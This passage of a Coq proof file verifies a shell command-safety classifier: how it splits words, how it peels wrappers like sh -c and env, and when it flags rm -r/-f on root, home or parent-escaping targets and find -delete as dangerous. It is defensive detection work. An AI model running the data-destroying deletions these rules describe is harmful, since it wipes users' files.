(* ===== verification/CommandSafetyFacts.v ===== *)
(** * Command safety: facts and theorems

    What the classifiers of [CommandSafety] promise: the grammar the read-only
    classifier accepts, the stages the analysis calls destructive through any wrapper
    it can peel, and the spellings that get past them. *)

From stdpp Require Import base list option strings relations.
From Stdlib Require Import Lia NArith.
From S2P Require Import Prelude RustStr CommandSafety.

Module CommandSafetyFacts.

Import CommandSafety.

(** ** The words of a POSIX shell

    [spelled w t]: the text [t] is one way to write the word [w]. *)

Definition plain_char (c : N) : bool :=
  negb (is_ascii_whitespace c || is_quote c || (c =? c_backslash)%N || (c =? 35)%N).

Inductive spelled : list N -> list N -> Prop :=
  | spelled_plain w : w <> [] -> Forall (fun c => plain_char c = true) w -> spelled w w
  | spelled_single w : c_squote ∉ w -> spelled w ([c_squote] ++ w ++ [c_squote])
  | spelled_double w : c_dquote ∉ w -> c_backslash ∉ w -> spelled w ([c_dquote] ++ w ++ [c_dquote]).

(** What is relied on of [shlex::split]: words spelled this way and separated by
    single spaces are read back. *)
Class ShlexLaws (Sh : Shlex) : Prop :=
  shlex_words : forall words texts,
    Forall2 spelled words texts -> shlex_split (str_join [c_space] texts) = Some words.

(** A splitter with these laws: quotes, backslashes and comments as POSIX has them. *)
Inductive quoting : Type :=
  | Out (cur : option (list N))
  | Single (cur : list N)
  | Double (cur : list N)
  | Comment.

Fixpoint posix_from (m : quoting) (s : list N) : option (list (list N)) :=
  match s with
  | [] => match m with Out (Some w) => Some [w] | Out None | Comment => Some [] | _ => None end
  | c :: s' =>
      match m with
      | Comment => posix_from (if (c =? c_nl)%N then Out None else Comment) s'
      | Single w => posix_from (if (c =? c_squote)%N then Out (Some w) else Single (w ++ [c])) s'
      | Double w =>
          if (c =? c_dquote)%N then posix_from (Out (Some w)) s'
          else if (c =? c_backslash)%N then
            match s' with
            | [] => None
            | d :: s'' => posix_from (Double (w ++ if contains_char d (lit "$`\" ++ [c_dquote]) then [d] else [c; d])) s''
            end
          else posix_from (Double (w ++ [c])) s'
      | Out cur =>
          if is_ascii_whitespace c then
            match cur with Some w => cons w <$> posix_from (Out None) s' | None => posix_from (Out None) s' end
          else if (c =? c_squote)%N then posix_from (Single (default [] cur)) s'
          else if (c =? c_dquote)%N then posix_from (Double (default [] cur)) s'
          else if (c =? c_backslash)%N then
            match s' with [] => None | d :: s'' => posix_from (Out (Some (default [] cur ++ [d]))) s'' end
          else if (c =? 35)%N && negb (bool_decide (is_Some cur)) then posix_from Comment s'
          else posix_from (Out (Some (default [] cur ++ [c]))) s'
      end
  end.

Definition posix_split : Shlex := posix_from (Out None).

Lemma posix_plain cur w rest :
  Forall (fun c => plain_char c = true) w -> w <> [] \/ is_Some cur ->
  posix_from (Out cur) (w ++ rest) = posix_from (Out (Some (default [] cur ++ w))) rest.
Proof.
  intros Hw. revert cur. induction Hw as [|c w Hc Hw IH]; intros cur Hne.
  - destruct Hne as [?|[x ->]]; [done|]. cbn. by rewrite app_nil_r.
  - cbn [app posix_from]. unfold plain_char, is_quote in Hc.
    destruct (is_ascii_whitespace c), (c =? c_squote)%N, (c =? c_dquote)%N, (c =? c_backslash)%N, (c =? 35)%N;
      try discriminate Hc.
    cbn [andb]. rewrite IH by (right; eauto). cbn [default from_option id]. by rewrite <- app_assoc.
Qed.

Lemma posix_single cur w rest :
  c_squote ∉ w -> posix_from (Single cur) (w ++ c_squote :: rest) = posix_from (Out (Some (cur ++ w))) rest.
Proof.
  revert cur. induction w as [|c w IH]; intros cur Hw; cbn [app posix_from].
  - by rewrite N.eqb_refl, app_nil_r.
  - apply not_elem_of_cons in Hw as [Hc Hw].
    rewrite (proj2 (N.eqb_neq c c_squote)) by congruence. rewrite IH by done. by rewrite <- app_assoc.
Qed.

Lemma posix_double cur w rest :
  c_dquote ∉ w -> c_backslash ∉ w ->
  posix_from (Double cur) (w ++ c_dquote :: rest) = posix_from (Out (Some (cur ++ w))) rest.
Proof.
  revert cur. induction w as [|c w IH]; intros cur Hw Hb; cbn [app posix_from].
  - by rewrite N.eqb_refl, app_nil_r.
  - apply not_elem_of_cons in Hw as [Hc Hw]. apply not_elem_of_cons in Hb as [Hc' Hb].
    rewrite (proj2 (N.eqb_neq c c_dquote)), (proj2 (N.eqb_neq c c_backslash)) by congruence.
    rewrite IH by done. by rewrite <- app_assoc.
Qed.

Lemma posix_spelled w t rest :
  spelled w t -> posix_from (Out None) (t ++ rest) = posix_from (Out (Some w)) rest.
Proof.
  destruct 1 as [w Hne Hw|w Hw|w Hw Hb].
  - by rewrite posix_plain by auto.
  - change (([c_squote] ++ w ++ [c_squote]) ++ rest) with (c_squote :: ((w ++ [c_squote]) ++ rest)).
    rewrite <- app_assoc. cbn [posix_from app]. change (is_ascii_whitespace c_squote) with false.
    rewrite N.eqb_refl. by rewrite posix_single.
  - change (([c_dquote] ++ w ++ [c_dquote]) ++ rest) with (c_dquote :: ((w ++ [c_dquote]) ++ rest)).
    rewrite <- app_assoc. cbn [posix_from app]. change (is_ascii_whitespace c_dquote) with false.
    change (c_dquote =? c_squote)%N with false. rewrite N.eqb_refl. by rewrite posix_double.
Qed.

#[export] Instance posix_split_laws : ShlexLaws posix_split.
Proof.
  intros words texts Hall. unfold shlex_split, posix_split.
  induction Hall as [|w t words texts Hw Hall IH]; [done|].
  destruct texts as [|t' texts].
  - inversion Hall; subst. cbn [str_join]. rewrite <- (app_nil_r t). by rewrite (posix_spelled w).
  - rewrite str_join_cons, (posix_spelled w) by done.
    change ([c_space] ++ str_join [c_space] (t' :: texts)) with (c_space :: str_join [c_space] (t' :: texts)).
    cbn [posix_from]. change (is_ascii_whitespace c_space) with true. cbv iota. by rewrite IH.
Qed.

(** What is relied on of [str::to_lowercase]: on ASCII text it is
    [to_ascii_lowercase]. *)
Class UnicodeCaseLaws (Uc : UnicodeCase) : Prop :=
  lowercase_ascii : forall s, Forall (fun c => (c < 128)%N) s -> to_lowercase s = to_ascii_lowercase s.

Definition ascii_case : UnicodeCase := to_ascii_lowercase.

#[export] Instance ascii_case_laws : UnicodeCaseLaws ascii_case.
Proof. by intros s _. Qed.

(** ** What a stage runs

    [prefixed in_env tokens prog args]: behind assignments and [env] calls, [tokens]
    runs [prog] with [args]. *)

Inductive prefixed : bool -> list (list N) -> list N -> list (list N) -> Prop :=
  | prefixed_here in_env prog args :
      prog <> lit "env" -> is_env_assignment prog = false -> (in_env = true -> is_flag prog = false) ->
      prefixed in_env (prog :: args) prog args
  | prefixed_assignment in_env a tokens prog args :
      is_env_assignment a = true -> prefixed in_env tokens prog args -> prefixed in_env (a :: tokens) prog args
  | prefixed_env_flag f tokens prog args :
      is_flag f = true -> prefixed true tokens prog args -> prefixed true (f :: tokens) prog args
  | prefixed_env in_env tokens prog args :
      prefixed true tokens prog args -> prefixed in_env (lit "env" :: tokens) prog args.

Lemma prefixed_index in_env k tokens prog args :
  prefixed in_env tokens prog args ->
  exists i, primary_from in_env k tokens = Some (k + i) /\ tokens !! i = Some prog /\ drop (S i) tokens = args.
Proof.
  intros Hp. revert k.
  induction Hp as [in_env prog args He Ha Hf|in_env a tokens prog args Ha Hp IH|f tokens prog args Hf Hp IH
                  |in_env tokens prog args Hp IH]; intros k.
  - exists 0. rewrite Nat.add_0_r. cbn [primary_from]. split_and!; [|done|done].
    rewrite Ha, orb_false_r. destruct in_env; cbn [andb]; [rewrite Hf by done|];
      (destruct (str_eqb prog (lit "env")) eqn:E; [by apply str_eqb_spec in E|done]).
  - destruct (IH (S k)) as (i & Hi & Ht & Hd). exists (S i). rewrite Nat.add_succ_r.
    split_and!; [|done|done]. cbn [primary_from]. rewrite Ha, orb_true_r, andb_true_r.
    destruct in_env; [done|]. destruct (str_eqb a (lit "env")) eqn:E; [|done].
    apply str_eqb_spec in E as ->. discriminate Ha.
  - destruct (IH (S k)) as (i & Hi & Ht & Hd). exists (S i). rewrite Nat.add_succ_r.
    split_and!; [|done|done]. cbn [primary_from]. by rewrite Hf.
  - destruct (IH (S k)) as (i & Hi & Ht & Hd). exists (S i). rewrite Nat.add_succ_r.
    split_and!; [|done|done]. cbn [primary_from]. rewrite andb_false_r. done.
Qed.

Lemma index_prefixed in_env k tokens j :
  primary_from in_env k tokens = Some j ->
  exists i prog, j = k + i /\ tokens !! i = Some prog /\ prefixed in_env tokens prog (drop (S i) tokens).
Proof.
  revert in_env k. induction tokens as [|t tokens IH]; intros in_env k; [done|]. cbn [primary_from].
  assert (Hstep : forall b, primary_from b (S k) tokens = Some j ->
            (forall prog args, prefixed b tokens prog args -> prefixed in_env (t :: tokens) prog args) ->
            exists i prog, j = k + i /\ (t :: tokens) !! i = Some prog /\ prefixed in_env (t :: tokens) prog (drop (S i) (t :: tokens))).
  { intros b Hb Hpre. destruct (IH b (S k) Hb) as (i & prog & -> & Ht & Hp). exists (S i), prog.
    split_and!; [lia|done|]. by apply Hpre. }
  destruct (in_env && (is_flag t || is_env_assignment t)) eqn:E1.
  { intros Hj. apply andb_true_iff in E1 as [-> E1]. apply (Hstep true Hj). intros prog args Hp.
    apply orb_true_iff in E1 as [E1|E1]; [by constructor|by constructor]. }
  destruct (str_eqb t (lit "env")) eqn:E2.
  { apply str_eqb_spec in E2 as ->. intros Hj. apply (Hstep true Hj). intros. by constructor. }
  destruct (is_env_assignment t) eqn:E3.
  { intros Hj. destruct in_env; [by rewrite orb_true_r in E1|]. apply (Hstep false Hj). intros. by constructor. }
  intros [= <-]. exists 0, t. split_and!; [lia|done|]. constructor; [|done|].
  - intros ->. by rewrite (proj2 (str_eqb_spec _ _)) in E2.
  - intros ->. cbn in E1. by apply orb_false_iff in E1 as [? _].
Qed.

(** ** Peeling wrappers

    [peel tokens next]: one wrapper of [tokens] is taken off. *)

Section Peeling.
Context `{Shlex} `{UnicodeCase}.

Definition takes_number (wrapper : list N) : bool := str_mem [lit "timeout"; lit "nice"; lit "ionice"] wrapper.

Inductive peel : list (list N) -> list (list N) -> Prop :=
  | peel_shell tokens prog before payload after :
      prefixed false tokens prog (before ++ lit "-c" :: payload :: after) ->
      command_word prog ∈ SHELL_WRAPPERS -> lit "-c" ∉ before ->
      peel tokens (shell_words payload)
  | peel_argv tokens prog flags next rest :
      prefixed false tokens prog (flags ++ next :: rest) ->
      command_word prog ∉ SHELL_WRAPPERS -> command_word prog ∈ ARGV_PASSTHROUGH_WRAPPERS ->
      Forall (fun f => is_flag f = true) flags -> is_flag next = false ->
      takes_number (command_word prog) && looks_like_numeric_operand next = false ->
      peel tokens (next :: rest)
  | peel_argv_number tokens prog flags number next rest :
      prefixed false tokens prog (flags ++ number :: next :: rest) ->
      command_word prog ∉ SHELL_WRAPPERS -> command_word prog ∈ ARGV_PASSTHROUGH_WRAPPERS ->
      Forall (fun f => is_flag f = true) flags -> is_flag number = false ->
      takes_number (command_word prog) = true -> looks_like_numeric_operand number = true ->
      peel tokens (next :: rest).

Lemma str_mem_spec l s : str_mem l s = true <-> s ∈ l.
Proof.
  unfold str_mem. rewrite existsb_exists. setoid_rewrite str_eqb_spec. split.
  - intros (x & Hx & ->). by apply list_elem_of_In.
  - intros Hs. exists s. split; [by apply list_elem_of_In|done].
Qed.

Lemma str_mem_false l s : str_mem l s = false <-> s ∉ l.
Proof. rewrite <- not_true_iff_false. by rewrite str_mem_spec. Qed.

Lemma primary_token_index_prefixed tokens prog args :
  prefixed false tokens prog args ->
  exists i, primary_token_index tokens = Some i /\ tokens !! i = Some prog /\ drop (i + 1) tokens = args.
Proof.
  intros Hp. destruct (prefixed_index _ 0 _ _ _ Hp) as (i & Hi & Ht & Hd). exists i.
  split_and!; [done|done|]. by rewrite Nat.add_1_r.
Qed.

Lemma drop_while_flags (flags : list (list N)) next rest :
  Forall (fun f => is_flag f = true) flags -> is_flag next = false ->
  drop_while is_flag (flags ++ next :: rest) = next :: rest.
Proof.
  intros Hf Hn. induction Hf as [|f flags Hf _ IH]; cbn; [by rewrite Hn|by rewrite Hf].
Qed.

Lemma position_app (before : list (list N)) (x : list N) (l : list (list N)) :
  x ∉ before -> position (fun t => str_eqb t x) (before ++ x :: l) = Some (length before).
Proof.
  induction before as [|b before IH]; intros Hx; cbn.
  - by rewrite (proj2 (str_eqb_spec x x)).
  - apply not_elem_of_cons in Hx as [Hb Hx]. rewrite IH by done.
    destruct (str_eqb b x) eqn:E; [apply str_eqb_spec in E; congruence|done].
Qed.

(** Every step of [peel] is one round of the loop. *)
Lemma peel_round tokens next : peel tokens next -> unwrap_round tokens = inr next.
Proof.
  unfold unwrap_round. destruct 1 as [tokens prog before payload after Hp Hw Hb
    |tokens prog flags next rest Hp Hs Hw Hf Hn Hnum|tokens prog flags number next rest Hp Hs Hw Hf Hn Ht Hnum];
    destruct (primary_token_index_prefixed _ _ _ Hp) as (i & -> & Ht0 & Hd);
    rewrite Ht0; cbn [default from_option id]; rewrite Hd.
  - rewrite (proj2 (str_mem_spec _ _) Hw), position_app by done.
    replace (tokens !! (i + 1 + length before + 1)) with (Some payload); [done|].
    rewrite <- Nat.add_assoc, <- lookup_drop, Hd, lookup_app_r by lia.
    by replace (length before + 1 - length before) with 1 by lia.
  - rewrite (proj2 (str_mem_false _ _) Hs), (proj2 (str_mem_spec _ _) Hw).
    unfold skip_passthrough_prefix. rewrite drop_while_flags by done.
    unfold takes_number in Hnum. by rewrite Hnum.
  - rewrite (proj2 (str_mem_false _ _) Hs), (proj2 (str_mem_spec _ _) Hw).
    unfold skip_passthrough_prefix. rewrite drop_while_flags by done.
    unfold takes_number in Ht. by rewrite Ht, Hnum.
Qed.

Lemma position_split (x : list N) (l : list (list N)) i :
  position (fun t => str_eqb t x) l = Some i ->
  exists before after, l = before ++ (x :: after) /\ (x ∉ before) /\ length before = i.
Proof.
  revert i. induction l as [|b l IH]; intros i; [done|]. cbn [position].
  destruct (str_eqb b x) eqn:E.
  - apply str_eqb_spec in E as ->. intros [= <-]. exists [], l. split_and!; [done|set_solver|done].
  - destruct (position _ l) as [j|] eqn:Ej; [|done]. intros [= <-].
    destruct (IH j eq_refl) as (before & after & -> & Hb & <-). exists (b :: before), after.
    split_and!; [done| |done]. apply not_elem_of_cons. split; [|done].
    intros ->. by rewrite (proj2 (str_eqb_spec b b)) in E.
Qed.

Lemma drop_while_split (args : list (list N)) :
  exists flags, args = flags ++ drop_while is_flag args /\ Forall (fun f => is_flag f = true) flags
                /\ forall next rest, drop_while is_flag args = next :: rest -> is_flag next = false.
Proof.
  induction args as [|a args (flags & He & Hf & Hn)]; [by exists []|]. cbn [drop_while].
  destruct (is_flag a) eqn:E.
  - exists (a :: flags). cbn. rewrite <- He. split_and!; [done|by constructor|done].
  - exists []. split_and!; [done|done|]. by intros ?? [= <- _].
Qed.

(** And nothing else is: the loop goes on exactly where a wrapper is peeled. *)
Lemma unwrap_round_peels tokens next : unwrap_round tokens = inr next <-> peel tokens next.
Proof.
  split; [|apply peel_round]. unfold unwrap_round.
  destruct (primary_token_index tokens) as [start|] eqn:Ei; [|done].
  destruct (index_prefixed _ _ _ _ Ei) as (i & prog & -> & Ht & Hp). cbn [Nat.add].
  rewrite Ht, Nat.add_1_r. cbn [default from_option id].
  destruct (str_mem SHELL_WRAPPERS (command_word prog)) eqn:Es.
  - destruct (position _ _) as [f|] eqn:Ef; [|done].
    destruct (position_split _ _ _ Ef) as (before & after & Hd & Hb & <-).
    replace (S i + length before + 1) with (S i + (length before + 1)) by lia.
    rewrite <- lookup_drop, Hd, lookup_app_r by lia.
    replace (length before + 1 - length before) with 1 by lia.
    destruct after as [|payload after]; [done|]. intros [= <-].
    rewrite Hd in Hp. by eapply peel_shell; [exact Hp|apply str_mem_spec|].
  - destruct (str_mem ARGV_PASSTHROUGH_WRAPPERS (command_word prog)) eqn:Ew; [|done].
    apply str_mem_spec in Ew. apply str_mem_false in Es.
    destruct (drop_while_split (drop (S i) tokens)) as (flags & He & Hf & Hn).
    unfold skip_passthrough_prefix. destruct (drop_while _ _) as [|operand rest]; [done|].
    rewrite He in Hp. specialize (Hn _ _ eq_refl).
    destruct (str_mem _ _ && _) eqn:Eb.
    + apply andb_true_iff in Eb as [? ?]. destruct rest as [|next' rest]; [done|]. intros [= <-].
      by eapply peel_argv_number.
    + intros [= <-]. by eapply peel_argv.
Qed.

Lemma peel_rounds n m tokens next :
  nsteps peel n tokens next -> unwrap_loop (n + m) tokens = unwrap_loop m next.
Proof.
  induction 1 as [|n x y z Hxy Hyz IH]; [done|]. cbn [Nat.add unwrap_loop]. by rewrite (peel_round _ _ Hxy).
Qed.

(** Nesting as deep as the limit is what the loop gives up on. *)
Lemma unwrap_loop_none n tokens : unwrap_loop n tokens = None <-> exists next, nsteps peel n tokens next.
Proof.
  split.
  - revert tokens. induction n as [|n IH]; intros tokens; [by exists tokens; constructor|]. cbn [unwrap_loop].
    destruct (unwrap_round tokens) as [?|next] eqn:E; [done|]. intros Hn.
    destruct (IH _ Hn) as [last Hl]. exists last. econstructor; [by apply unwrap_round_peels|done].
  - intros [next Hn]. rewrite <- (Nat.add_0_r n). by rewrite (peel_rounds _ _ _ _ Hn).
Qed.

Lemma unwrap_loop_some n tokens argv :
  unwrap_loop n tokens = Some argv ->
  exists k next, k < n /\ nsteps peel k tokens next /\ unwrap_round next = inl argv.
Proof.
  revert tokens. induction n as [|n IH]; intros tokens; [done|]. cbn [unwrap_loop].
  destruct (unwrap_round tokens) as [a|next] eqn:E.
  - intros [= <-]. exists 0, tokens. split_and!; [lia|constructor|done].
  - intros Hl. destruct (IH _ Hl) as (k & last & Hk & Hs & Hr). exists (S k), last.
    split_and!; [lia| |done]. econstructor; [by apply unwrap_round_peels|done].
Qed.

(** The last round folds the program's spelling. *)
Lemma unwrap_round_done tokens prog args :
  prefixed false tokens prog args ->
  command_word prog ∉ SHELL_WRAPPERS -> command_word prog ∉ ARGV_PASSTHROUGH_WRAPPERS ->
  exists i, primary_token_index tokens = Some i /\ tokens !! i = Some prog /\ drop (i + 1) tokens = args
            /\ unwrap_round tokens = inl (<[i := command_word prog]> tokens).
Proof.
  intros Hp Hs Hw. destruct (primary_token_index_prefixed _ _ _ Hp) as (i & Hi & Ht & Hd). exists i.
  split_and!; [done..|]. unfold unwrap_round. rewrite Hi, Ht. cbn [default from_option id].
  by rewrite (proj2 (str_mem_false _ _) Hs), (proj2 (str_mem_false _ _) Hw).
Qed.

(** The folded word is still the program that runs. *)
Lemma primary_from_folded in_env k tokens i word :
  primary_from in_env k tokens = Some (k + i) ->
  word <> lit "env" -> is_env_assignment word = false -> is_flag word = false ->
  primary_from in_env k (<[i := word]> tokens) = Some (k + i).
Proof.
  intros Hi He Ha Hf. revert in_env k tokens Hi.
  induction i as [|i IH]; intros in_env k [|t tokens] Hi; [done| |done|].
  - cbn. rewrite Ha, Hf, andb_false_r.
    destruct (str_eqb word _) eqn:E; [by apply str_eqb_spec in E|]. by rewrite Nat.add_0_r.
  - change (<[S i := word]> (t :: tokens)) with (t :: <[i := word]> tokens). cbn [primary_from] in *.
    rewrite Nat.add_succ_r in *. change (S (k + i)) with (S k + i) in *.
    repeat case_match; try (by apply IH); simplify_eq; lia.
Qed.

(** ** Deletions *)

Definition recursive_flag (arg : list N) : bool :=
  str_mem [lit "--recursive"; lit "--dir"] arg
  || (is_flag arg && negb (starts_with (lit "--") arg) && existsb (fun ch => (ch =? 114)%N || (ch =? 82)%N) arg).

Definition force_flag (arg : list N) : bool :=
  str_eqb arg (lit "--force")
  || (is_flag arg && negb (starts_with (lit "--") arg) && contains_char 102 arg).

(** Long options other than the three the code reads count as targets. *)
Definition rm_target (arg : list N) : bool :=
  negb (str_mem [lit "--"; lit "--recursive"; lit "--dir"; lit "--force"] arg)
  && negb (is_flag arg && negb (starts_with (lit "--") arg)).

Definition risky_target (target : list N) : bool :=
  target_is_unexpanded_variable target || is_root_delete_target target
  || is_home_delete_target target || target_contains_parent_escape target.

Lemma rm_arg_spec r f ts arg :
  rm_arg (r, f, ts) arg
  = (r || recursive_flag arg, f || force_flag arg, if rm_target arg then ts ++ [arg] else ts).
Proof.
  unfold rm_arg, recursive_flag, force_flag, rm_target, str_mem. cbn [existsb].
  assert (Hsym : forall a b, str_eqb a b = str_eqb b a) by (intros; unfold str_eqb; apply bool_decide_ext; split; congruence).
  rewrite !(Hsym _ arg).
  destruct (str_eqb arg (lit "--")) eqn:E1; [apply str_eqb_spec in E1 as ->; by destruct r, f|].
  destruct (str_eqb arg (lit "--recursive")) eqn:E2; [apply str_eqb_spec in E2 as ->; by destruct r, f|].
  destruct (str_eqb arg (lit "--dir")) eqn:E3; [apply str_eqb_spec in E3 as ->; by destruct r, f|].
  destruct (str_eqb arg (lit "--force")) eqn:E4; [apply str_eqb_spec in E4 as ->; by destruct r, f|].
  destruct (is_flag arg && negb (starts_with (lit "--") arg)) eqn:E5; cbn; by rewrite ?orb_false_r.
Qed.

Lemma rm_args_spec args :
  rm_args args = (existsb recursive_flag args, existsb force_flag args, List.filter rm_target args).
Proof.
  unfold rm_args.
  cut (forall r f ts, fold_left rm_arg args (r, f, ts)
       = (r || existsb recursive_flag args, f || existsb force_flag args, ts ++ List.filter rm_target args)).
  { intros Hc. by rewrite Hc. }
  induction args as [|a args IH]; intros r f ts; cbn [fold_left existsb List.filter].
  - by rewrite !orb_false_r, app_nil_r.
  - rewrite rm_arg_spec, IH, !orb_assoc. by destruct (rm_target a); rewrite <- ?app_assoc.
Qed.

Lemma target_reason_risky target : is_Some (target_reason target) <-> risky_target target = true.
Proof.
  unfold target_reason, risky_target.
  destruct (target_is_unexpanded_variable target), (is_root_delete_target target), (is_home_delete_target target),
    (target_contains_parent_escape target); cbn; split; intros Hx; first [done|by destruct Hx|exact (mk_is_Some _ _ eq_refl)].
Qed.

Lemma head_omap_some {A B} (f : A -> option B) l x :
  x ∈ l -> is_Some (f x) -> is_Some (head (omap f l)).
Proof.
  intros Hx [y Hy]. induction Hx as [x l|x z l Hx IH]; cbn; [rewrite Hy; cbn; eauto|].
  destruct (f z); cbn; eauto.
Qed.

Lemma dangerous_rm_reason_spec args :
  is_Some (dangerous_rm_reason args)
  <-> existsb recursive_flag args || existsb force_flag args = true
      /\ exists target, target ∈ args /\ rm_target target = true /\ risky_target target = true.
Proof.
  unfold dangerous_rm_reason. rewrite rm_args_spec.
  destruct (existsb recursive_flag args || existsb force_flag args); cbn [negb];
    [|split; [by intros []|by intros [? _]]].
  assert (Hin : forall t, t ∈ List.filter rm_target args <-> t ∈ args /\ rm_target t = true).
  { intros t. rewrite !list_elem_of_In. apply List.filter_In. }
  split.
  - intros [r Hr]. split; [done|]. destruct (omap target_reason _) as [|r' l] eqn:E; [done|].
    assert (Hr' : r' ∈ omap target_reason (List.filter rm_target args)) by (rewrite E; set_solver).
    apply list_elem_of_omap in Hr' as (t & Ht & Htr). exists t. apply Hin in Ht as [? ?].
    split_and!; [done..|]. apply target_reason_risky. eauto.
  - intros [_ (t & Ht & Hrt & Hri)]. apply (head_omap_some _ _ t); [by apply Hin|by apply target_reason_risky].
Qed.

(** ** Destructive stages

    What a stage of a command line does, seen through the wrappers it can be peeled
    from: it nests too deeply, deletes by [rm], or deletes by [find]. *)

Definition runs (n : nat) (s : list N) (prog : list N) (args : list (list N)) : Prop :=
  n < MAX_WRAPPER_DEPTH /\ exists tokens, nsteps peel n (shell_words s) tokens /\ prefixed false tokens prog args.

Definition broad_root (target : list N) : bool :=
  is_root_delete_target target || is_home_delete_target target || target_contains_parent_escape target.

Inductive destructive_stage (s : list N) : Prop :=
  | destructive_nesting next :
      nsteps peel MAX_WRAPPER_DEPTH (shell_words s) next -> destructive_stage s
  | destructive_rm n prog args target :
      runs n s prog args -> command_word prog = lit "rm" ->
      existsb recursive_flag args || existsb force_flag args = true ->
      target ∈ args -> rm_target target = true -> risky_target target = true -> destructive_stage s
  | destructive_find n prog args target :
      runs n s prog args -> command_word prog = lit "find" ->
      lit "-delete" ∈ args \/ (exists before after, args = before ++ lit "-exec" :: lit "rm" :: after) ->
      target ∈ take_while (fun arg => negb (is_flag arg)) args -> broad_root target = true -> destructive_stage s.

(** Stages that run [prog] by whatever spelling are judged by its folded name. *)
Lemma runs_unwraps n s prog args word :
  runs n s prog args -> command_word prog = word ->
  word ∉ SHELL_WRAPPERS -> word ∉ ARGV_PASSTHROUGH_WRAPPERS ->
  word <> lit "env" -> is_env_assignment word = false -> is_flag word = false ->
  exists tokens i, unwrap_to_effective_tokens (shell_words s) = Some tokens
    /\ primary_token_index tokens = Some i /\ tokens !! i = Some word /\ drop (i + 1) tokens = args.
Proof.
  intros [Hn (tokens & Hs & Hp)] <- Hsh Hpass He Ha Hf.
  destruct (unwrap_round_done _ _ _ Hp Hsh Hpass) as (i & Hi & Ht & Hd & Hr).
  exists (<[i := command_word prog]> tokens), i. split_and!.
  - unfold unwrap_to_effective_tokens. replace MAX_WRAPPER_DEPTH with (n + S (MAX_WRAPPER_DEPTH - n - 1)) by lia.
    rewrite (peel_rounds _ _ _ _ Hs). cbn [unwrap_loop]. by rewrite Hr.
  - by apply (primary_from_folded false 0).
  - apply list_lookup_insert_eq. by eapply lookup_lt_Some.
  - rewrite <- Hd. apply drop_insert_lt. lia.
Qed.

Lemma execs_rm_spec before after : execs_rm (before ++ lit "-exec" :: lit "rm" :: after) = true.
Proof.
  induction before as [|a before IH]; [done|].
  destruct (before ++ lit "-exec" :: lit "rm" :: after) as [|b l] eqn:E; [by destruct before|].
  change ((a :: before) ++ lit "-exec" :: lit "rm" :: after) with (a :: (before ++ lit "-exec" :: lit "rm" :: after)).
  rewrite E. cbn [execs_rm] in *. by rewrite IH, orb_true_r.
Qed.

Lemma destructive_stage_dangerous s :
  destructive_stage s -> exists rs ss, analyze_segment s = Some (dangerous rs ss).
Proof.
  unfold analyze_segment.
  destruct 1 as [next Hn|n prog args target Hr Hw Hf Ht Htt Hri|n prog args target Hr Hw Hm Ht Hb].
  - unfold unwrap_to_effective_tokens. rewrite (proj2 (unwrap_loop_none _ _)) by eauto. eauto.
  - destruct (runs_unwraps _ _ _ _ _ Hr Hw) as (tokens & i & -> & -> & -> & ->);
      [by apply str_mem_false|by apply str_mem_false|done|done|done|].
    cbn [default from_option id]. rewrite (proj2 (str_eqb_spec _ _)) by done.
    destruct (proj2 (dangerous_rm_reason_spec args)) as [r ->]; eauto 10.
  - destruct (runs_unwraps _ _ _ _ _ Hr Hw) as (tokens & i & -> & -> & -> & ->);
      [by apply str_mem_false|by apply str_mem_false|done|done|done|].
    cbn [default from_option id]. change (str_eqb (lit "find") (lit "rm")) with false. cbv iota.
    rewrite (proj2 (str_eqb_spec _ _)) by done. unfold analyze_find_mutation.
    replace (str_mem args (lit "-delete") || execs_rm args) with true; cbn [negb].
    + rewrite (proj2 (existsb_exists _ _)); [eauto|]. exists target. split; [by apply list_elem_of_In|done].
    + symmetry. apply orb_true_iff. destruct Hm as [Hm|(before & after & ->)]; [left; by apply str_mem_spec|].
      right. apply execs_rm_spec.
Qed.

Lemma analyze_segment_level s a :
  analyze_segment s = Some a -> level a = RequiresApproval \/ level a = Dangerous.
Proof.
  unfold analyze_segment, analyze_find_mutation. intros Ha. repeat case_match; simplify_eq; cbn; auto.
Qed.

(** ** Command lines *)

Lemma head_omap_app {A B} (f : A -> option B) before x after :
  exists y, y ∈ before ++ [x] /\ (is_Some (f x) -> is_Some (f y) /\ head (omap f (before ++ x :: after)) = f y).
Proof.
  induction before as [|z before (y & Hy & IH)].
  - exists x. split; [set_solver|]. cbn. intros [v ->]. split; [by eexists|done].
  - cbn. destruct (f z) as [v|] eqn:Ez.
    + exists z. split; [set_solver|]. intros _. rewrite Ez. split; [by eexists|done].
    + exists y. split; [set_solver|done].
Qed.

Lemma analyze_command_of_patterns c a :
  analyze_destructive_patterns c = Some a -> level a = RequiresApproval \/ level a = Dangerous ->
  level (analyze_command c) = level a \/ level (analyze_command c) = Dangerous.
Proof. intros Ha Hl. unfold analyze_command. rewrite Ha. repeat case_match; cbn; auto. Qed.

Lemma in_segments_loop ch current s seg :
  ch ∈ lit "|;" -> ch ∉ current -> seg ∈ segments_loop current s -> ch ∉ seg.
Proof.
  intros Hch. revert current. induction s as [s IH] using (induction_ltof1 _ length); unfold ltof in IH.
  intros current Hc. destruct s as [|c s]; cbn [segments_loop].
  { by intros ->%list_elem_of_singleton. }
  assert (Hpush : forall s', length s' <= length s -> seg ∈ current :: segments_loop [] s' -> ch ∉ seg).
  { intros s' Hs' [->|Hin]%elem_of_cons; [done|]. apply (IH s') in Hin; [done|cbn; lia|set_solver]. }
  assert (Hkeep : (c =? c_pipe)%N || (c =? c_semi)%N = false ->
                  seg ∈ segments_loop (current ++ [c]) s -> ch ∉ seg).
  { intros Hk Hin. apply (IH s) in Hin; [done|cbn; lia|].
    apply orb_false_iff in Hk as [?%N.eqb_neq ?%N.eqb_neq]. vm_compute in Hch. set_solver. }
  destruct s as [|d s].
  - destruct ((c =? c_pipe)%N || (c =? c_semi)%N) eqn:E; [by apply (Hpush [])|by apply Hkeep].
  - destruct (((c =? c_amp)%N || (c =? c_pipe)%N) && (d =? c)%N); [apply Hpush; cbn; lia|].
    destruct ((c =? c_pipe)%N || (c =? c_semi)%N) eqn:E; [by apply Hpush|by apply Hkeep].
Qed.

Lemma trim_elem ch s : ch ∈ trim s -> ch ∈ s.
Proof.
  unfold trim. intros Hin.
  destruct (trim_end_matches_prefix is_whitespace (trim_start_matches is_whitespace s)) as [k [Hk _]].
  assert (Hs : ch ∈ trim_start_matches is_whitespace s) by (rewrite Hk; set_solver).
  unfold trim_start_matches in Hs. clear -Hs. induction s as [|c s IH]; [done|]. cbn in Hs.
  destruct (is_whitespace c); set_solver.
Qed.

(** A stage never contains the operators that end it. *)
Lemma segments_have_no_operator ch c seg :
